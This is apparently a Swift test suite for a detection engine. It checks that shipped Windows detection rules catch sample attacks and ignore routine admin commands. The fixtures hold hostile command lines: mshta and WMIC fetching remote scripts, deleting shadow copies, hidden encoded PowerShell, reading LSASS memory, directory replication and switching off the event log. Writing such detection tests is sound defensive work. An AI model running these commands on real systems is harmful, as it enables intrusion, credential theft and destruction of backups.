import CordonCore
import Testing

/// The rules for Windows that ship: each finds its attack, none what administrators do all day.
@Suite struct WindowsRulesTests {
  private static let attacks: [(rule: String, source: SigmaSource, fields: [SigmaField: String])] = [
    ("script-host-runs-script", .windowsProcessCreation, program("mshta.exe", "mshta http://192.0.2.1/x.hta")),
    ("installer-profile-bypass", .windowsProcessCreation, program("cmstp.exe", "cmstp.exe /s C:\\x.inf")),
    (
      "uninstaller-runs-assembly", .windowsProcessCreation,
      program("InstallUtil.exe", "InstallUtil.exe /logfile= /LogToConsole=false /U x.exe")
    ),
    ("library-injected", .windowsProcessCreation, program("mavinject.exe", "mavinject 4012 /INJECTRUNNING C:\\x.dll")),
    (
      "management-runs-stylesheet", .windowsProcessCreation,
      program("wbem\\WMIC.exe", "wmic os get /format:\"http://192.0.2.1/x.xsl\"")
    ),
    ("shadow-copies-deleted", .windowsProcessCreation, program("vssadmin.exe", "vssadmin delete shadows /all /quiet")),
    (
      "encoded-command", .windowsProcessCreation,
      program("WindowsPowerShell\\v1.0\\powershell.exe", "powershell -noni -w 1 -enc JABhAD0A")
    ),
    (
      "credentials-read-from-memory", .windowsProcessAccess,
      [
        .sourceImage: "C:\\Users\\Public\\x.exe", .targetImage: "C:\\Windows\\System32\\lsass.exe",
        .grantedAccess: "0x1010", .callTrace: "ntdll.dll+1|UNKNOWN(0001)",
      ]
    ),
    (
      "directory-replicated-by-user", .windowsSecurity,
      [
        .eventID: "4662", .subjectUserName: "ann",
        .properties: "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
      ]
    ),
    (
      "log-on-downgraded", .windowsRegistry,
      [.targetObject: "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\LmCompatibilityLevel", .details: "DWORD (2)"]
    ),
    (
      "event-log-switched-off", .windowsRegistry,
      [
        .targetObject: "HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start", .details: "DWORD (0x00000004)",
      ]
    ),
    (
      "service-from-odd-place", .windowsSystem,
      [.eventID: "7045", .imagePath: "%COMSPEC% /b /c start powershell -enc x"]
    ),
    (
      "task-runs-encoded-script", .windowsProcessCreation,
      program("schtasks.exe", "schtasks /create /tn u /tr \"powershell -w hidden -enc JAB\"")
    ),
    (
      "thread-in-log-on-service", .windowsRemoteThread,
      [.sourceImage: "C:\\x.exe", .targetImage: "C:\\Windows\\System32\\lsass.exe"]
    ),
  ]

  private static func program(_ name: String, _ line: String) -> [SigmaField: String] {
    [.image: "C:\\Windows\\System32\\\(name)", .commandLine: line]
  }

  @Test func `every rule has its attack`() throws {
    for (rule, source, fields) in Self.attacks {
      #expect(try SigmaCommandTests.found(fields, source).contains("windows-\(rule)"), "\(rule)")
    }
    let shipped = try SigmaCommandTests.shipped().keys.filter { $0.hasPrefix("windows-") }
    #expect(Set(Self.attacks.map { "windows-\($0.rule)" }) == Set(shipped))
  }

  @Test(arguments: [
    program("cmd.exe", "cmd /c whoami"), program("vssadmin.exe", "vssadmin list shadows"),
    program("wbem\\WMIC.exe", "wmic os get caption"), program("cmstp.exe", "cmstp.exe C:\\vpn.inf"),
    program("WindowsPowerShell\\v1.0\\powershell.exe", "powershell -File C:\\scripts\\report.ps1"),
    program("schtasks.exe", "schtasks /create /tn backup /tr C:\\backup.exe /sc daily"),
    program("msiexec.exe", "msiexec /i setup.msi /qn"), program("mshta.exe", "mshta"),
  ])
  func `everyday programs trip none`(fields: [SigmaField: String]) throws {
    #expect(try SigmaCommandTests.found(fields, .windowsProcessCreation) == [])
  }

  @Test func `Windows' own programs may look at the log-on service, computers replicate`() throws {
    let access: [SigmaField: String] = [
      .sourceImage: "C:\\Windows\\System32\\svchost.exe", .targetImage: "C:\\Windows\\System32\\lsass.exe",
      .grantedAccess: "0x1010", .callTrace: "ntdll.dll+1|KERNELBASE.dll+2",
    ]
    #expect(try SigmaCommandTests.found(access, .windowsProcessAccess) == [])
    let replication: [SigmaField: String] = [
      .eventID: "4662", .subjectUserName: "DC2$", .properties: "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
    ]
    #expect(try SigmaCommandTests.found(replication, .windowsSecurity) == [])
  }
}
